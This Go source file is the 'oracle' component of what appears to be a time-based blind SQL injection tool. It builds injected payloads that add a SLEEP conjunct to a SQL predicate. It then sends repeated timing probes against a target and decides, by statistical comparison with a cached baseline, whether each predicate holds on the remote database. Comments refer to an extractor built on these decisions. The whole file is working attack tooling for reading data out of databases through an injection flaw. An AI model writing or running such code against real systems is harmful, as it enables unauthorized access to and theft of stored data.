// Package oracle turns a SQL boolean predicate into a decision by
// interpreting request latency: a predicate that holds makes the backend
// sleep before responding, a predicate that fails responds promptly.
package oracle

import (
	"context"
	"io"
	"log/slog"
	"sync"

	"github.com/0x6d61/timeleech/internal/dbms"
	"github.com/0x6d61/timeleech/internal/payload"
	"github.com/0x6d61/timeleech/internal/stats"
)

// Canonical predicates used for baseline and calibration probes.
const (
	// TruePredicate always holds on the remote database.
	TruePredicate = "1=1"

	// FalsePredicate never holds, so the payload carries no delay.
	FalsePredicate = "1=0"
)

const (
	// defaultSamples is the number of probes collected per Evaluate call.
	defaultSamples = 7

	// defaultBaselineSamples is the number of prompt probes cached on
	// first use and reused for every later significance decision.
	defaultBaselineSamples = 15
)

// Record is one trace entry, emitted per Evaluate call when tracing is on.
type Record struct {
	Position  int       `json:"position"`
	Predicate string    `json:"predicate"`
	Decision  bool      `json:"decision"`
	Samples   []float64 `json:"elapsed_per_sample"`
}

// Options configures an Oracle.
type Options struct {
	// Delay is the server-side sleep in seconds injected for true
	// predicates.
	Delay float64

	// Samples is the number of probes per Evaluate call (default 7).
	Samples int

	// BaselineSamples is the size of the cached prompt baseline
	// (default 15).
	BaselineSamples int

	// Trace enables per-call trace records.
	Trace bool

	// Logger receives debug output. Nil disables logging.
	Logger *slog.Logger
}

// Oracle evaluates SQL predicates through repeated timing probes and the
// statistical analyzer. It is safe for concurrent use: the baseline is
// computed once and read lock-free afterwards, and the query counter and
// trace buffer are guarded by one mutex held only to append.
type Oracle struct {
	prober   *Prober
	analyzer *stats.Analyzer
	template *payload.Template
	dialect  dbms.Dialect
	opts     Options
	logger   *slog.Logger

	baselineOnce sync.Once
	baseline     []float64

	mu      sync.Mutex
	queries int64
	trace   []Record
}

// New creates an Oracle over the given prober, analyzer, template and
// dialect.
func New(prober *Prober, analyzer *stats.Analyzer, tpl *payload.Template, dialect dbms.Dialect, opts Options) *Oracle {
	if opts.Samples <= 0 {
		opts.Samples = defaultSamples
	}
	if opts.BaselineSamples <= 0 {
		opts.BaselineSamples = defaultBaselineSamples
	}
	logger := opts.Logger
	if logger == nil {
		logger = slog.New(slog.NewTextHandler(io.Discard, nil))
	}
	return &Oracle{
		prober:   prober,
		analyzer: analyzer,
		template: tpl,
		dialect:  dialect,
		opts:     opts,
		logger:   logger,
	}
}

// BuildPayload constructs the injected value for a predicate:
//
//  1. A template that already carries SLEEP( gets its argument rewritten
//     to the delay and the predicate substituted verbatim.
//  2. Otherwise, a predicate without SLEEP( is conjoined with the
//     dialect's sleep fragment before substitution.
//  3. Otherwise the predicate is substituted verbatim.
func BuildPayload(tpl *payload.Template, d dbms.Dialect, predicate string, delay float64) string {
	if tpl.HasSleep() {
		return tpl.WithDelay(delay).Instantiate(predicate)
	}
	if !payload.ContainsSleep(predicate) {
		return tpl.Instantiate("(" + predicate + ") AND " + d.SleepConjunct(delay))
	}
	return tpl.Instantiate(predicate)
}

// Evaluate reports whether the predicate holds on the remote database.
//
// The first call collects and caches the prompt baseline; every call then
// collects the configured number of probe samples and asks the analyzer
// whether they are significantly slower. Transport failures are absorbed
// into the sample as prompt timings. When significance cannot be decided
// (for example, cancellation cut the sample short), the conservative
// answer is false; the extractor's candidate verification recovers from
// occasional wrong answers.
func (o *Oracle) Evaluate(ctx context.Context, predicate string) bool {
	return o.EvaluateAt(ctx, 0, predicate)
}

// EvaluateAt is Evaluate with a position tag recorded in the trace.
func (o *Oracle) EvaluateAt(ctx context.Context, position int, predicate string) bool {
	baseline := o.ensureBaseline(ctx)

	payloadStr := BuildPayload(o.template, o.dialect, predicate, o.opts.Delay)
	samples := o.prober.Samples(ctx, payloadStr, o.opts.Samples)

	decision, p := o.analyzer.Significant(baseline, samples)

	o.logger.Debug("oracle decision",
		"position", position,
		"predicate", predicate,
		"decision", decision,
		"p_value", p,
		"samples", len(samples),
	)

	o.mu.Lock()
	o.queries += int64(len(samples))
	if o.opts.Trace {
		o.trace = append(o.trace, Record{
			Position:  position,
			Predicate: predicate,
			Decision:  decision,
			Samples:   samples,
		})
	}
	o.mu.Unlock()

	return decision
}

// ensureBaseline lazily collects the prompt baseline. It is immutable
// after first computation and read without locking.
func (o *Oracle) ensureBaseline(ctx context.Context) []float64 {
	o.baselineOnce.Do(func() {
		payloadStr := BuildPayload(o.template, o.dialect, FalsePredicate, o.opts.Delay)
		o.baseline = o.prober.Samples(ctx, payloadStr, o.opts.BaselineSamples)

		mean, stdev := stats.Baseline(o.baseline)
		o.logger.Debug("baseline established",
			"samples", len(o.baseline), "mean", mean, "stdev", stdev)

		o.mu.Lock()
		o.queries += int64(len(o.baseline))
		o.mu.Unlock()
	})
	return o.baseline
}

// Baseline returns the cached prompt baseline, collecting it first if
// needed.
func (o *Oracle) Baseline(ctx context.Context) []float64 {
	return o.ensureBaseline(ctx)
}

// Queries returns the total number of probes issued so far, baseline
// included.
func (o *Oracle) Queries() int64 {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.queries
}

// Trace returns a copy of the trace records collected so far.
func (o *Oracle) Trace() []Record {
	o.mu.Lock()
	defer o.mu.Unlock()
	out := make([]Record, len(o.trace))
	copy(out, o.trace)
	return out
}
